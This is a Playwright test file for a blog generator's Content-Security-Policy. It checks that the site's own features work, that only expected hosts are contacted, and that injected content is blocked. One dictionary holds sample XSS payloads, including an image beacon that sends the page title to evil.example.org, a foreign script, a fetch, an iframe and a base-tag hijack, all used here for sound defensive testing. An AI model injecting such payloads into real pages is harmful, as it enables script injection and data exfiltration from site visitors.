"""Pages under their policies: nothing of theirs is held up, and nothing of others' runs."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from bench.serving import served
from tests.blogkit.conftest import Blog
from tests.browser.blog import CONF, PORTRAIT
from tests.browser.conftest import PAGES, PHOTOS, POST, SEARCH, VIDEOS, Site, Watch
from tests.browser.headers import headers_for
from tests.browser.waiting import until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Page, Route

MOVED = "posts/2025/moved.html"
KINDS = {**PAGES, "archive": "blog/archive.html", "redirect": MOVED}
LISTEN = """
window.held = [];
document.addEventListener("securitypolicyviolation", event =>
    window.held.push(event.violatedDirective + " " + event.blockedURI + " " + event.sample));
"""
PLAYER = "<!DOCTYPE html><title>A player</title><p>Playing</p>"
SCRIPT = "document.title = 'comments'"
POLICY = "head > meta[http-equiv='Content-Security-Policy']"


@dataclass
class Guarded:
    """Pages as readers get them: with the headers of a host, and with hosts beyond that answer.

    *reached* are the hosts beyond of which something was asked that no policy held up.
    """

    visit: Callable[..., Page]
    site: Site
    reached: list[str] = field(default_factory=list)

    def __call__(self, path: str, **options: Any) -> Page:
        page = self.visit("about:blank", **options)
        page.context.route("**/*", self._answer)
        page.add_init_script(LISTEN)
        page.goto(path)
        return page

    def _answer(self, route: Route) -> None:
        if not route.request.url.startswith(self.site.address):
            self.reached.append(urlsplit(route.request.url).netloc)
            is_script = route.request.resource_type == "script"
            kind = "text/javascript" if is_script else "text/html"
            route.fulfill(body=SCRIPT if is_script else PLAYER, content_type=kind)
            return
        response = route.fetch()
        path = "/" + route.request.url.removeprefix(self.site.address)
        sent = headers_for((self.site.folder / "_headers").read_text(encoding="utf-8"), path)
        route.fulfill(response=response, headers={**response.headers, **sent})


@pytest.fixture
def guarded(visit: Callable[..., Page], site: Site, watch: Watch) -> Iterator[Guarded]:
    """Opens pages; what was asked of hosts beyond is the test's to look at."""
    opened: list[Page] = []

    def open_page(path: str, **options: Any) -> Page:
        opened.append(visit(path, **options))
        return opened[-1]

    yield Guarded(open_page, site)
    for page in opened:
        page.context.unroute_all(behavior="ignoreErrors")
    watch.requests.clear()


def held(page: Page) -> list[str]:
    """What the page's policy has held up so far."""
    found: list[str] = page.evaluate("window.held")
    return found


@pytest.mark.parametrize("kind", KINDS)
def test_no_page_is_held_up(guarded: Guarded, kind: str) -> None:
    page = guarded(KINDS[kind])
    if kind == "redirect":
        page.wait_for_url(f"**/{VIDEOS}")
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    page.wait_for_load_state("networkidle")
    assert page.locator(POLICY).count() == 1
    assert held(page) == []
    assert guarded.reached == []


def test_an_old_address_leads_on(guarded: Guarded) -> None:
    page = guarded(f"{MOVED}#written")
    page.wait_for_url(f"**/{VIDEOS}#written")
    assert held(page) == []


def test_search_works(guarded: Guarded) -> None:
    page = guarded(f"{SEARCH}?q=harbour")
    page.locator("#search-results li").first.wait_for()
    assert held(page) == []


def test_pictures_open_large(guarded: Guarded) -> None:
    page = guarded(PHOTOS)
    page.locator("a.photo-link").first.click()
    page.locator("dialog[open] img").first.wait_for()
    assert held(page) == []


def test_the_theme_and_code_are_at_hand(guarded: Guarded) -> None:
    page = guarded(POST, permissions=["clipboard-read", "clipboard-write"])
    page.locator("#switch-theme").click()
    page.locator("button.copy").first.click()
    page.get_by_role("button", name="✓").wait_for()
    page.locator(".sd-tab-set label").last.click()
    assert held(page) == []


def test_comments_come_when_asked_for(guarded: Guarded) -> None:
    page = guarded(POST)
    page.locator("#show-comments").click()
    until(page, "document.title == 'comments'")
    assert held(page) == []
    assert guarded.reached == ["giscus.app"]


def test_what_the_author_wrote_runs(guarded: Guarded) -> None:
    page = guarded(VIDEOS)
    assert page.locator("#written").inner_text() == "by a script of the author's"
    words = page.get_by_role("link", name="that do something")
    words.click()
    page.get_by_role("link", name="clicked").wait_for()
    align = "each => getComputedStyle(each.parentElement).textAlign"
    assert page.get_by_role("link", name="clicked").evaluate(align) == "right"


INJECTED = {
    "script": "const each = document.createElement('script'); each.textContent = 'window.hit = 1';"
    "document.body.append(each)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.hit = 1\">')",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "foreign script": "const each = document.createElement('script');"
    "each.src = 'https://evil.example.org/x.js'; document.body.append(each)",
    "foreign picture": "new Image().src = 'https://evil.example.org/?' + document.title",
    "request": "fetch('https://evil.example.org/').catch(() => {})",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example.org/\">')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example.org/\">')",
}


@pytest.mark.parametrize(
    ("path", "what"), [*((POST, each) for each in INJECTED), (VIDEOS, "script"), (SEARCH, "script")]
)
def test_what_others_put_there_does_not(
    guarded: Guarded, watch: Watch, path: str, what: str
) -> None:
    """The policy is real: the console says so, and nothing has left."""
    page = guarded(path)
    page.evaluate(f"() => {{ {INJECTED[what]} }}")
    until(page, "window.held.length > 0")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.baseURI").startswith(guarded.site.address)
    assert guarded.reached == []
    assert watch.console
    watch.console.clear()


@pytest.mark.parametrize("key", ["", "Enter"])
def test_a_video_plays_when_asked_to(guarded: Guarded, key: str) -> None:
    page = guarded(VIDEOS)
    link = page.get_by_role("link", name="A talk about harbours Play the video from YouTube")
    box = link.bounding_box()
    link.press(key) if key else link.click()
    player = page.frame_locator("iframe[title='A talk about harbours']")
    assert player.get_by_text("Playing").is_visible()
    frame = page.locator("iframe")
    assert frame.get_attribute("src") == (
        "https://www.youtube-nocookie.com/embed/abcdefghijk?start=42&autoplay=1"
    )
    assert frame.bounding_box() == box
    assert page.evaluate("document.activeElement.title") == "A talk about harbours"
    assert held(page) == []
    assert guarded.reached == ["www.youtube-nocookie.com"]


def test_a_video_is_a_link_without_a_script(guarded: Guarded) -> None:
    page = guarded(VIDEOS, java_script_enabled=False)
    links = page.locator("a.video").evaluate_all("all => all.map(each => each.href)")
    assert links == [
        "https://www.youtube.com/watch?v=abcdefghijk&t=42",
        "https://vimeo.com/123456",
        "https://www.youtube.com/watch?v=lmnopqrstuv",
    ]
    assert all(each.is_visible() for each in page.locator("a.video").all())


@pytest.fixture(scope="module")
def drafts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """What its author alone sees of a blog: a post that is not published."""
    blog = Blog(tmp_path_factory.mktemp("policy") / "blog")
    blog.write("conf.py", CONF)
    for name in ("logo", "robin", "sam"):
        blog.write(f"_static/{name}.svg", PORTRAIT)
    blog.write("index.md", "# Home\n")
    blog.post("posts/draft.md", draft="true", date="")
    run = blog.run("build", "--drafts")
    assert run.returncode == 0, run.stderr
    folder = blog.root / "_build/drafts"
    with served(folder) as address:
        yield Site(folder, address)


@pytest.mark.parametrize("path", ["posts/draft.html", "blog/drafts.html"])
def test_drafts_are_not_held_up(
    visit: Callable[..., Page], watch: Watch, drafts: Site, path: str
) -> None:
    page = visit("about:blank")
    page.add_init_script(LISTEN)
    page.goto(drafts.address + path)
    assert page.locator(POLICY).count() == 1
    assert page.locator("h1").is_visible()
    assert held(page) == []
    watch.requests.clear()
